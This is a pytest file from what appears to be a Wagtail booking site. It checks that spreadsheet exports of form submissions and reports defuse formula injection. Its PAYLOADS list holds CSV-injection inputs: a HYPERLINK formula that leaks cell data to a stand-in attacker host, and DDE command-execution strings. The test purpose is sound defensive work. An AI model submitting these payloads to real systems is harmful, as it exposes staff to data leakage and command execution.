"""Spreadsheet exports carry no live formulas (OWASP CSV injection), in every column, format and export view."""

import csv
import importlib
import io
import pkgutil

import pytest
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormSubmission

from core.spreadsheets import FORMULA_STARTS, SafeSpreadsheetExportMixin
from tests.twofactor import verified_login

# What the attack review sent through the form: each starts with one of = + - @ TAB CR.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A3&B3,"Click for your booking")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FIRST_PARTY_APPS = ["appointments", "core", "home", "search", "treatments"]


def submission_with(page, payload):
    """Every answer of the form set to the payload, written straight to the database (as the form, or an
    older version of the site, may have stored it)."""
    fields = page.get_form_fields()
    data = {field.clean_name: payload for field in fields}
    data["preferred_days_and_times"] = [payload, "Saturday"]
    data["i_agree_to_be_contacted_about_this_request"] = True
    return FormSubmission.objects.create(page=page, form_data=data)


def export(client, url, export_format):
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_cells(content):
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def xlsx_cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def formula_requests(appointment_page):
    # An editor's label is a heading of the export: it is checked too.
    field = appointment_page.form_fields.get(clean_name="name")
    field.label = "=1+2"
    field.save()
    for payload in PAYLOADS:
        submission_with(appointment_page, payload)
    return appointment_page


@pytest.mark.parametrize("role", ["front_desk", "admin"])
def test_no_csv_cell_of_the_requests_export_starts_a_formula(client, formula_requests, staff, role):
    verified_login(client, staff[role])
    cells = csv_cells(export(client, f"/admin/forms/submissions/{formula_requests.pk}/", "csv"))
    assert len(cells) > 8 * len(PAYLOADS)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    # Defused, not lost: the front desk still reads what was sent.
    for payload in PAYLOADS:
        assert "'" + payload in cells
        assert f"'{payload}, Saturday" in cells
    assert "'=1+2" in cells


def test_no_xlsx_cell_of_the_requests_export_is_or_becomes_a_formula(client, formula_requests, staff):
    verified_login(client, staff["front_desk"])
    cells = xlsx_cells(export(client, f"/admin/forms/submissions/{formula_requests.pk}/", "xlsx"))
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)]
    # Stored as text with Excel's quote prefix: still text after someone edits the cell.
    assert [cell.coordinate for cell in risky if not cell.quotePrefix] == []
    values = [cell.value for cell in cells]
    assert all(payload in values for payload in PAYLOADS if not payload.startswith("\r"))


def test_the_reviews_due_report_export_is_defused_too(client, make_treatment, staff):
    make_treatment("=HYPERLINK(A1)", slug="formula", last_reviewed=None, reviewed_by="@SUM(A1)")
    verified_login(client, staff["editor"])
    cells = csv_cells(export(client, "/admin/reports/treatment-reviews-due/", "csv"))
    assert "'=HYPERLINK(A1)" in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    xlsx = xlsx_cells(export(client, "/admin/reports/treatment-reviews-due/", "xlsx"))
    assert [cell.coordinate for cell in xlsx if cell.data_type == "f"] == []


def first_party_classes():
    for app in FIRST_PARTY_APPS:
        package = importlib.import_module(app)
        for module in pkgutil.walk_packages(package.__path__, f"{app}."):
            if ".migrations" in module.name or ".tests" in module.name:
                continue
            importlib.import_module(module.name)

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    return {cls for cls in subclasses(SpreadsheetExportMixin) if cls.__module__.split(".")[0] in FIRST_PARTY_APPS}


def test_every_export_view_of_the_project_is_a_safe_one(db):
    """An export view added later without the safe mixin fails here."""
    views = first_party_classes()
    assert {view.__name__ for view in views} >= {"AppointmentRequestsView", "ReviewsDueReport"}
    unsafe = [view.__qualname__ for view in views if not issubclass(view, SafeSpreadsheetExportMixin)]
    assert unsafe == []
